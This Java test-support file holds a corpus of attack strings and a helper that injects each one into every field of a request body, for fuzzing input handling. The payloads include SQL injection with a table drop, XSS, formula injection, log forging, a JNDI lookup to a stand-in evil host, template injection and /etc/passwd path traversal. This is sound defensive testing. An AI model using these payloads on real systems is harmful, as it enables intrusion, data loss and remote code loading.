package journeys;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** What attackers type into fields, by what it is aimed at. */
final class Corpus {

    /** A line of the log that begins with this was forged. */
    static final String FORGED = "2026-01-01T00:00:00.000Z FORGED";

    static final Map<String, String> TEXTS = Map.ofEntries(
            Map.entry("SQL", "'; drop table applications.application; --"),
            Map.entry("SQL that is always true", "' or '1'='1"),
            Map.entry("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
            Map.entry("formula", "=1+1"),
            Map.entry("formula that calls", "@SUM(1)|cmd"),
            Map.entry("log", "x\r\n" + FORGED + " by somebody"),
            Map.entry("JNDI", "${jndi:ldap://evil.example/a}"),
            Map.entry("templates", "#{7*7}${7*7}{{7*7}}<%= 7*7 %>"),
            Map.entry("NUL", "a\0b"),
            Map.entry("right to left", "\u202Etxt.exe\u2066"),
            Map.entry("long", "长".repeat(10_000)),
            Map.entry("path", "../../../../etc/passwd"));

    private Corpus() {}

    /** A body once for each text in it, with that text replaced. */
    static List<Object> with(String text, Object body) {
        return switch (body) {
            case String replaced -> List.of(text);
            case Map<?, ?> map ->
                map.keySet().stream()
                        .flatMap(key -> with(text, map.get(key)).stream().map(value -> changed(map, key, value)))
                        .toList();
            case List<?> list ->
                list.stream()
                        .flatMap(each -> with(text, each).stream().map(value -> (Object) List.of(value)))
                        .toList();
            default -> List.of();
        };
    }

    private static Object changed(Map<?, ?> map, Object key, Object value) {
        Map<Object, Object> copy = new LinkedHashMap<>(map);
        copy.put(key, value);
        return copy;
    }
}
